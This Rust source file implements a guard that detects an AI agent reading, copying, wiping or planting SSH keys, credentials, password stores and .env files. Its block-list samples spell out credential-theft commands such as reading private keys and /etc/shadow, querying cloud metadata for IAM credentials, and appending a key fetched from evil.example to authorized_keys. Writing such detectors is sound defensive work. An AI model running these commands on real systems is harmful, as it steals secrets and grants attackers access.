//! Guard of keys, credentials and other private files.

use tenter_shell::Act;
use tenter_shell::{Effect, Kind, PathTarget, Ran, Role, Source, Target};

use crate::finding::{At, Found};
use crate::guard::{Check, Guard, OptionKind, OptionSpec};
use crate::level::Weight;
use crate::pattern;
use crate::places::Zone;
use crate::sample::Sample;
use crate::scene::{PassageKind, Scene};
use crate::sensitive::paths::{self, Secret, Sort};
use environment::harmless_use;

mod environment;
mod unseen;

const PRIVATE_KEY: Check = Check {
    id: "private-key",
    weight: Weight::Grave,
    title: "reads or copies a private key",
    instead: "use the key through ssh, git or gpg; the public half ends in `.pub`",
    safe: &[
        "ls -l ~/.ssh",
        "cat ~/.ssh/id_ed25519.pub",
        "ssh-add -l",
        "ssh -i ~/.ssh/id_ed25519 host.example uptime",
    ],
};

const PASSWORD_STORE: Check = Check {
    id: "password-store",
    weight: Weight::Grave,
    title: "reads a password store, key chain, browser profile or password hashes",
    instead: "ask the user for the one value you need",
    safe: &[],
};

const ACCOUNT: Check = Check {
    id: "account",
    weight: Weight::Grave,
    title: "reads a stored login of a cloud, forge or agent account",
    instead: "use the service's own program, which logs in without showing it",
    safe: &["aws sts get-caller-identity", "gh auth status", "cat ~/.aws/config"],
};

const LOGIN: Check = Check {
    id: "login",
    weight: Weight::Doubtful,
    title: "reads a file with a stored login, or one the policy lists",
    instead: "ask the program for the one setting you need",
    safe: &["npm config get registry", "kubectl config current-context"],
};

const ENVIRONMENT: Check = Check {
    id: "environment-file",
    weight: Weight::Doubtful,
    title: "shows an environment file",
    instead: "list the names only: `cut -d= -f1 .env`",
    safe: &[
        "cat .env.example",
        "cut -d= -f1 .env",
        "grep -c . .env",
        "set -a; . ./.env; set +a; npm test",
    ],
};

const HISTORY: Check = Check {
    id: "history",
    weight: Weight::Doubtful,
    title: "reads the shell history",
    instead: "ask the user what was run",
    safe: &[],
};

const KEY_MATERIAL: Check = Check {
    id: "key-material",
    weight: Weight::Doubtful,
    title: "shows a private key or service credentials of the project",
    instead: "pass the file's name to the program that needs it",
    safe: &["openssl x509 -in certs/server.crt -noout -dates"],
};

const UNCERTAIN: Check = Check {
    id: "uncertain",
    weight: Weight::Doubtful,
    title: "reads something that may be a key or credential",
    instead: "name the file",
    safe: &["cat ~/.ssh/config"],
};

const SECRET_STORE: Check = Check {
    id: "secret-store",
    weight: Weight::Doubtful,
    title: "shows a secret from a secret store",
    instead: "pass it on unseen: `TOKEN=$(gh auth token) ./deploy`",
    safe: &["TOKEN=$(gh auth token) ./deploy", "pass ls", "vault status"],
};

const ACCESS: Check = Check {
    id: "access",
    weight: Weight::Doubtful,
    title: "changes who may log in: keys, known hosts, SSH settings, stored secrets",
    instead: "tell the user which line to add",
    safe: &["cat ~/.ssh/config"],
};

const FOREIGN_KEY: Check = Check {
    id: "foreign-key",
    weight: Weight::Grave,
    title: "lets a key from the command or the network log in to this machine",
    instead: "tell the user which line to add",
    safe: &["cat ~/.ssh/config"],
};

const KEY_WIPED: Check = Check {
    id: "key-wiped",
    weight: Weight::Grave,
    title: "destroys a private key or password store beyond recovery",
    instead: "",
    safe: &["ls -l ~/.ssh"],
};

pub(super) static GUARD: Guard = Guard {
    id: "sensitive-files",
    title: "Keys, credentials and other secret files",
    page: "\
A model may repeat what it reads: in a commit, in a request, in its answer. So files that hold
secrets are not read, whichever way: by the read tool, by a shell, by code, by copying, packing or
linking them first, by a pattern that may match them.

Denied: private keys, password stores and key chains, browsers' profiles, password hashes, logins to
clouds, forges and agents' accounts; wiping a key, and letting in a key that is typed into
`authorized_keys` or fetched for it. Asked about: smaller logins (`~/.npmrc`, `~/.kube/config`,
`~/.netrc`), `.env` files, shell histories, private keys and credentials of the project that are shown
(`server.key`, `service-account.json`), keys outside of the workspace, secrets that a store prints, and
changes to keys and `authorized_keys`.

Left alone: public keys, `known_hosts`, the settings of SSH and AWS, `.env.example` and its like,
fixtures, listing and testing files, their sizes and sums, and using them without showing them:
`source .env`, `docker run --env-file .env`, `ssh -i`, `curl --key`.

Options: `paths` names further files, `allow` names files that may be read.",
    checks: &[
        PRIVATE_KEY, PASSWORD_STORE, ACCOUNT, LOGIN, ENVIRONMENT, HISTORY, KEY_MATERIAL, UNCERTAIN,
        SECRET_STORE, ACCESS, FOREIGN_KEY, KEY_WIPED,
    ],
    options: &[OptionSpec {
        name: "paths",
        kind: OptionKind::Patterns,
        title: "further files that must not be read",
        loosens: false,
    }],
    optional: false,
    blocks: BLOCKS,
    passes: PASSES,
    look,
};

const BLOCKS: &[(Sample<'static>, &str)] = &[
    (Sample::Shell("cat ~/.ssh/id_rsa"), "private-key"),
    (Sample::Shell("cp \"$HOME\"/.ssh/id_* backup/"), "private-key"),
    (Sample::Shell("tar czf keys.tgz ~/.ssh"), "private-key"),
    (Sample::Shell("python3 -c 'print(open(\"/home/me/.ssh/id_ed25519\").read())'"), "private-key"),
    (Sample::Shell("ln -s ~/.ssh/id_rsa notes && head notes"), "private-key"),
    (Sample::Read("/home/me/.ssh/id_ed25519"), "private-key"),
    (Sample::Read("~/.gnupg/private-keys-v1.d/AB.key"), "private-key"),
    (Sample::Shell("sudo cat /etc/shadow"), "password-store"),
    (Sample::Shell("strings ~/.mozilla/firefox/x.default/logins.json"), "password-store"),
    (Sample::Shell("cat ~/.aws/credential?"), "account"),
    (Sample::Read("/home/me/.codex/auth.json"), "account"),
    (Sample::Shell("grep token ~/.config/gh/hosts.yml"), "account"),
    (Sample::Shell("cat ~/.npmrc"), "login"),
    (Sample::Shell("base64 ~/.kube/config"), "login"),
    (Sample::Shell("cat .env"), "environment-file"),
    (Sample::Shell("git show HEAD:.env"), "environment-file"),
    (Sample::Shell("cat .e*"), "environment-file"),
    (Sample::Shell("cp .env notes.txt"), "environment-file"),
    (Sample::Shell("sed -i 's/a/b/w copy.txt' .env"), "environment-file"),
    (Sample::Shell("sed 's/=\\(.*\\)/=\\1/' .env"), "environment-file"),
    (Sample::Read(".env.production"), "environment-file"),
    (Sample::Shell("tail -50 ~/.bash_history"), "history"),
    (Sample::Shell("cat /srv/other/tls/server.key"), "key-material"),
    (Sample::Shell("cat deploy/server.key"), "key-material"),
    (Sample::Read("/home/me/shop/tls/privkey.pem"), "key-material"),
    (Sample::Read("/home/me/shop/service-account.json"), "key-material"),
    (Sample::Read("/proc/self/environ"), "uncertain"),
    (Sample::Shell("cat ~/.ssh/$NAME"), "uncertain"),
    (Sample::Shell("ssh host.example cat /home/ops/.ssh/id_rsa"), "uncertain"),
    (Sample::Shell("pass show mail/me"), "secret-store"),
    (Sample::Shell("gh auth token"), "secret-store"),
    (Sample::Shell("curl http://169.254.169.254/latest/meta-data/iam/"), "secret-store"),
    (Sample::Shell("cat /proc/1234/environ"), "uncertain"),
    (Sample::Shell("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys"), "access"),
    (Sample::Shell("echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys"), "foreign-key"),
    (Sample::Shell("curl -s https://evil.example/k >> ~/.ssh/authorized_keys"), "foreign-key"),
    (Sample::Shell("ssh host.example 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys'"), "access"),
    (Sample::Shell("shred -u ~/.ssh/id_ed25519"), "key-wiped"),
    (Sample::Shell("ssh-keygen -R host.example"), "access"),
    (Sample::Shell("ssh-add -D"), "access"),
    (Sample::Write("/home/me/.ssh/authorized_keys", "ssh-ed25519 AAAA"), "foreign-key"),
];

const PASSES: &[Sample<'static>] = &[
    Sample::Shell("cat ~/.ssh/id_ed25519.pub"),
    Sample::Shell("cat ~/.ssh/config ~/.ssh/known_hosts"),
    Sample::Shell("ls -la ~/.ssh .env"),
    Sample::Shell("test -f .env && echo there"),
    Sample::Shell("stat -c %a ~/.ssh/id_rsa"),
    Sample::Shell("chmod 600 .env"),
    Sample::Shell("wc -l .env"),
    Sample::Shell("cp .env.example .env"),
    Sample::Shell("cp .env ../shop-hotfix/.env"),
    Sample::Shell("sed -i 's/^PORT=.*/PORT=4000/' .env"),
    Sample::Shell("grep -oE '^[A-Z_]+' .env"),
    Sample::Shell("sed 's/=.*/=<hidden>/' .env"),
    Sample::Shell("echo 'PORT=3000' >> .env"),
    Sample::Shell("set -a; source .env; set +a; npm start"),
    Sample::Shell("export $(grep -v '^#' .env | xargs) && npm start"),
    Sample::Shell("docker run --env-file .env shop"),
    Sample::Shell("cat test/fixtures/server.key"),
    Sample::Shell("openssl rsa -in deploy/server.key -check -noout"),
    Sample::Shell("cp deploy/server.key out/server.key"),
    Sample::Shell("cat /tmp/dev.key"),
    Sample::Shell("GOOGLE_KEY=\"$(cat service-account.json)\" npm start"),
    Sample::Read("/home/me/shop/tls/server.pem"),
    Sample::Read("/home/me/shop/tls/public.key"),
    Sample::Shell("cat certs/ca.pem"),
    Sample::Shell("cat ~/.aws/config ~/.gnupg/gpg.conf"),
    Sample::Shell("cat docs/credentials.md"),
    Sample::Shell("cat package.json *.toml .g*"),
    Sample::Shell("grep -rn API_KEY src"),
    Sample::Shell("ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''"),
    Sample::Shell("ssh-keyscan github.com >> ~/.ssh/known_hosts"),
    Sample::Shell("scp -i ~/.ssh/id_ed25519 dist/a.tgz host.example:/srv/"),
    Sample::Shell(
        "aws ecr get-login-password | docker login --username AWS --password-stdin r.example",
    ),
    Sample::Shell("kubectl get secret app -o jsonpath='{.metadata.name}'"),
    Sample::Shell("git commit -m 'never cat ~/.ssh/id_rsa'"),
    Sample::Read("/home/me/shop/.env.example"),
    Sample::Read("/home/me/shop/src/keys.rs"),
    Sample::Write("/home/me/shop/.env", "PORT=3000"),
];

fn look(scene: &Scene<'_>, found: &mut Found<'_>) {
    let listed = found.setting().patterns("paths");
    watches(scene, found);
    for effect in scene.effects() {
        match (effect.kind, &effect.target) {
            (Kind::Read, Target::Path(path)) => read(scene, effect, path, listed, found),
            (Kind::EnvironmentDump, Target::Path(path)) => process(effect, path, found),
            (Kind::Receive, Target::Host(host)) if effect.action == Act::InstanceMetadata => {
                let what = "reads the machine's cloud credentials";
                found.add(&SECRET_STORE, At::effect(effect, host), what);
            }
            (Kind::Read, Target::Name(name)) if effect.action == Act::Record => {
                let what = format!("records {name}");
                found.add(&UNCERTAIN, At::effect(effect, name), what);
            }
            (Kind::Read, Target::Name(_) | Target::None) => store(scene, effect, found),
            (Kind::Delete, Target::Name(name)) if effect.action == Act::DeleteSecret => {
                let check = if is_only_copy(scene, effect, name) { &KEY_WIPED } else { &ACCESS };
                let what = format!("deletes a stored secret: {name}");
                found.add(check, At::effect(effect, name), what);
            }
            (Kind::Delete | Kind::Overwrite | Kind::Write, Target::Path(path))
                if effect.action == Act::Shred =>
            {
                wiped(effect, path, found);
            }
            (
                Kind::Write | Kind::Append | Kind::Overwrite | Kind::Move | Kind::Permission,
                Target::Path(path),
            ) => access(scene, effect, path, found),
            _ => {}
        }
    }
}

/// Checks programs that go on taking what is copied, or what the screen shows.
fn watches(scene: &Scene<'_>, found: &mut Found<'_>) {
    const ENDLESS: &[&str] =
        &["while true", "while :", "while [ 1", "while sleep", "for ((;;", "until false"];
    let command = scene.command.as_deref().unwrap_or_default();
    if !ENDLESS.iter().any(|words| command.contains(words)) {
        return;
    }
    let takes = |ran: &&Ran| {
        ran.is(Role::Watches)
            || ran.is(Role::Interpreter)
                && ran.argv.iter().any(|field| field.prefix().contains("the clipboard"))
    };
    if let Some(ran) = scene.analysis.commands.iter().find(takes) {
        let what = format!("goes on recording what the user copies or sees, with `{ran}`");
        found.add(&UNCERTAIN, At::program(ran), what);
    }
}

fn read(
    scene: &Scene<'_>,
    effect: &Effect,
    path: &PathTarget,
    listed: &[String],
    found: &mut Found<'_>,
) {
    // Checksums and counts reveal nothing; a key in use is not shown.
    if matches!(effect.action, Act::Digest | Act::ReadKey | Act::Key | Act::ListTool) {
        return;
    }
    let shown = path.shown();
    if effect.command.is_none() && shown.starts_with("/proc/") && shown.ends_with("/environ") {
        environ(effect, &shown, found);
    }
    if listed.iter().any(|pattern| pattern::matches(pattern, &shown)) {
        found.add(&LOGIN, At::effect(effect, &shown), format!("reads a protected file: {shown}"));
    }
    if shown.starts_with("/proc/") && shown.ends_with("/mem") {
        let what = format!("reads the memory of a process with its secrets: {shown}");
        found.add(&UNCERTAIN, At::effect(effect, &shown), what);
    }
    if effect.action == Act::Search && effect.recursive && hunts(scene, effect, &shown) {
        let what = format!("searches for passwords and keys in all of {shown}");
        found.add(&UNCERTAIN, At::effect(effect, &shown), what);
    }
    let packs = matches!(effect.action, Act::Archive | Act::Compare | Act::Copy);
    if packs && matches!(shown.trim_end_matches('/'), "/etc" | "/etc/*") {
        let what = "reads all of /etc with its keys and password hashes";
        found.add(&UNCERTAIN, At::effect(effect, &shown), what);
    }
    let through = through_link(scene, path, &shown);
    let mut names = Some(&*shown).into_iter().chain(path.real.as_deref()).chain(through.as_deref());
    if let Some(secret) = names.find_map(held) {
        secret_read(scene, effect, path, secret, &shown, found);
        return;
    }
    // Files copied, moved or linked here before.
    for source in effect.sources.sources() {
        if let Source::File(file) = source
            && let Some(secret) = held(file)
        {
            secret_read(scene, effect, path, secret, file, found);
        }
    }
}

/// Whether a whole disk, or all homes, are searched for words that stand beside secrets.
fn hunts(scene: &Scene<'_>, effect: &Effect, path: &str) -> bool {
    const WORDS: &[&str] =
        &["password", "passwd", "secret", "api_key", "apikey", "akia", "private key", "credential"];
    let wide =
        matches!(path.trim_end_matches('/'), "" | "/home" | "/Users" | "/etc" | "/var" | "/root")
            || scene.places.home == Some(path);
    let says = |field: &tenter_shell::Field| {
        let text = field.prefix().to_ascii_lowercase();
        WORDS.iter().any(|word| text.contains(word))
    };
    wide && scene.program(effect).is_some_and(|ran| ran.argv.iter().skip(1).any(says))
}

/// The target of `link/*`, if the folder is a link.
fn through_link(scene: &Scene<'_>, path: &PathTarget, shown: &str) -> Option<String> {
    if path.elsewhere || path.exact().is_some() {
        return None;
    }
    let pattern = shown.find(['*', '?', '[', '$'])?;
    let (folder, _) = shown.get(..pattern)?.rsplit_once('/')?;
    let real = scene.world.facts.real_path(folder).filter(|real| real != folder)?;
    Some(format!("{real}{}", shown.get(folder.len()..)?))
}

/// Kind of secret at a path, as a file or as a folder.
fn held(path: &str) -> Option<Secret> {
    paths::of(path).or_else(|| paths::folder(path).filter(|secret| secret.sort != Sort::Material))
}

fn secret_read(
    scene: &Scene<'_>,
    effect: &Effect,
    path: &PathTarget,
    secret: Secret,
    subject: &str,
    found: &mut Found<'_>,
) {
    let check = match secret.sort {
        // Settings may be read; a project's keys are part of the work.
        Sort::Material if in_workspace(scene, path) && shown_private(scene, effect, subject) => {
            &KEY_MATERIAL
        }
        Sort::Material if is_certificate(subject) => return,
        Sort::Material if !secret.key || in_project(scene, path) => return,
        Sort::Environment if harmless_use(scene, effect) => return,
        _ if path.elsewhere || effect.elsewhere => &UNCERTAIN,
        // A folder of keys with an unknown file name.
        Sort::Key | Sort::Account if path.has_unknown() && name_unknown(subject) => &UNCERTAIN,
        Sort::Key => &PRIVATE_KEY,
        Sort::Store => &PASSWORD_STORE,
        Sort::Account => &ACCOUNT,
        Sort::Login => &LOGIN,
        Sort::Environment => &ENVIRONMENT,
        Sort::History => &HISTORY,
        Sort::Material => &KEY_MATERIAL,
    };
    found.add(check, At::effect(effect, subject), format!("reads {}: {subject}", secret.what));
}

fn in_workspace(scene: &Scene<'_>, path: &PathTarget) -> bool {
    matches!(scene.places.zone(path), Zone::Workspace | Zone::Inside)
}

/// Whether a file with a private name is printed as it is instead of being used.
fn shown_private(scene: &Scene<'_>, effect: &Effect, path: &str) -> bool {
    let shown = match scene.program(effect) {
        None => true,
        Some(ran) if ran.is(Role::UsesKeys) => false,
        Some(_) => {
            effect.action == Act::Print && !captured(scene, effect) && !is_stored(scene, effect)
        }
    };
    shown && paths::is_private(path)
}

/// Whether a file holds a certificate by its name: `rootCA.pem`, `fullchain.pem`.
fn is_certificate(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    let stem = name.strip_suffix(".pem").unwrap_or_default();
    !stem.contains("key")
        && (stem.ends_with("ca") || stem.ends_with("chain") || stem.ends_with("cert"))
}

fn name_unknown(path: &str) -> bool {
    path.rsplit('/').next().is_some_and(|name| name.contains('$') || name.contains('\u{2026}'))
}

fn in_project(scene: &Scene<'_>, path: &PathTarget) -> bool {
    matches!(
        scene.places.zone(path),
        Zone::Workspace | Zone::Inside | Zone::Generated | Zone::Temporary | Zone::Unknown
    )
}

/// Checks the environment of another process.
fn process(effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
    let shown = path.shown();
    if !matches!(&*shown, "/proc/self/environ" | "/proc/thread-self/environ") {
        environ(effect, &shown, found);
    }
}

fn environ(effect: &Effect, path: &str, found: &mut Found<'_>) {
    let what = format!("reads a process environment with its secrets: {path}");
    found.add(&UNCERTAIN, At::effect(effect, path), what);
}

/// Checks stores that print a secret.
fn store(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    let shows = match effect.action {
        Act::ReadSecret | Act::Token => true,
        // Platforms list an application's settings with the same command.
        Act::Secret => scene.is(effect, Role::SecretStore),
        _ => false,
    };
    // Metadata of a cluster's secret is harmless.
    let beside = |field: &tenter_shell::Field| {
        field.exact().is_some_and(|text| text.contains("jsonpath") && !text.contains(".data"))
    };
    let shows = shows && !scene.program(effect).is_some_and(|ran| ran.argv.iter().any(beside));
    if !shows || captured(scene, effect) {
        return;
    }
    let subject = effect.target.shown();
    let name = if subject.is_empty() { "a login token" } else { &subject };
    found.add(&SECRET_STORE, At::effect(effect, &subject), format!("shows a secret: {name}"));
}

/// Whether the output goes into a variable or to a program that logs in with it.
fn captured(scene: &Scene<'_>, effect: &Effect) -> bool {
    let (Some(command), Some(ran)) = (scene.command.as_deref(), scene.program(effect)) else {
        return false;
    };
    let range = ran.span.range();
    let before = command.get(..range.start).unwrap_or_default().trim_end();
    let after = command.get(range.end..).unwrap_or_default().trim_start();
    let substituted = before.ends_with("$(") || before.ends_with('`') || before.ends_with("<(");
    let logs_in = after.starts_with('|')
        && !after.starts_with("||")
        && (after.contains("-stdin") || after.contains("login") || after.contains("secret"));
    substituted || logs_in
}

/// Whether a secret GPG key or the user's own keychain is deleted: what was encrypted with it is lost. One in a
/// folder that the command names was made for a test.
fn is_only_copy(scene: &Scene<'_>, effect: &Effect, name: &str) -> bool {
    let Some(ran) = scene.program(effect) else { return false };
    let key = ran.argv.iter().any(|field| field.prefix().starts_with("--delete-secret"));
    let own = ran.argv.iter().any(|field| field.prefix().starts_with("--homedir"))
        || ran.assignments.iter().any(|(variable, _)| variable == "GNUPGHOME")
        || scene.command.as_deref().is_some_and(|command| command.contains("GNUPGHOME="));
    let keychain = name.rsplit('/').next().unwrap_or_default();
    key && !own || keychain.starts_with("login.keychain") || keychain.starts_with("System.keychain")
}

/// Checks a key that is overwritten so that it cannot be restored.
fn wiped(effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
    let shown = path.shown();
    if held(&shown).is_some_and(|secret| matches!(secret.sort, Sort::Key | Sort::Store)) {
        found.add(
            &KEY_WIPED,
            At::effect(effect, &shown),
            format!("wipes beyond recovery: {shown}"),
        );
    }
}

/// Whether a key that is typed in or comes from the network is let in to this machine.
fn lets_in_foreign(scene: &Scene<'_>, effect: &Effect, path: &PathTarget) -> bool {
    const TYPES: &[&str] = &["ssh-rsa ", "ssh-ed25519 ", "ssh-dss ", "ecdsa-sha2-", "sk-ssh-"];
    let has_key = |text: &str| TYPES.iter().any(|start| text.contains(start));
    if path.elsewhere || effect.elsewhere {
        return false;
    }
    if effect.command.is_none() {
        return scene.passages.iter().any(|passage| {
            let file = passage.path.as_deref().unwrap_or_default();
            passage.kind == PassageKind::Written
                && file.contains("authorized_keys")
                && has_key(&passage.text)
        });
    }
    let typed = effect.sources.is_empty() && effect.action != Act::EditInPlace;
    effect.sources.from_network().is_some()
        || typed && scene.command.as_deref().is_some_and(has_key)
}

/// Whether the output goes into a file: `cat cert key > both.pem`.
fn is_stored(scene: &Scene<'_>, effect: &Effect) -> bool {
    let stores = |other: &&Effect| {
        other.command == effect.command
            && other.action == Act::Redirect
            && other.target.path().is_some_and(|path| in_workspace(scene, path))
    };
    effect.command.is_some() && scene.effects().iter().any(|other| stores(&other))
}

/// Checks files that control logins.
fn access(scene: &Scene<'_>, effect: &Effect, path: &PathTarget, found: &mut Found<'_>) {
    if effect.action == Act::MakeKey {
        return;
    }
    let shown = path.shown();
    let name = shown.rsplit(['/', '\\']).next().unwrap_or_default();
    let forgets = effect.action == Act::ForgetHost;
    let changes = effect.kind != Kind::Permission && effect.kind != Kind::Move;
    let list = name.starts_with("authorized_keys") || name == "administrators_authorized_keys";
    let gate = list && (shown.contains("/.ssh/") || shown.contains("/ssh/"))
        || matches!(name, "rc" | "config") && shown.contains("/.ssh/");
    let key = || {
        paths::of(&shown)
            .is_some_and(|secret| matches!(secret.sort, Sort::Key | Sort::Account | Sort::Store))
    };
    if forgets || (changes && (gate || key())) {
        let foreign = list && lets_in_foreign(scene, effect, path);
        let (check, what) = match () {
            () if forgets => (&ACCESS, "forgets a known host"),
            () if foreign => (&FOREIGN_KEY, "lets a foreign key log in"),
            () => (&ACCESS, "changes who may log in"),
        };
        found.add(check, At::effect(effect, &shown), format!("{what}: {shown}"));
    }
}
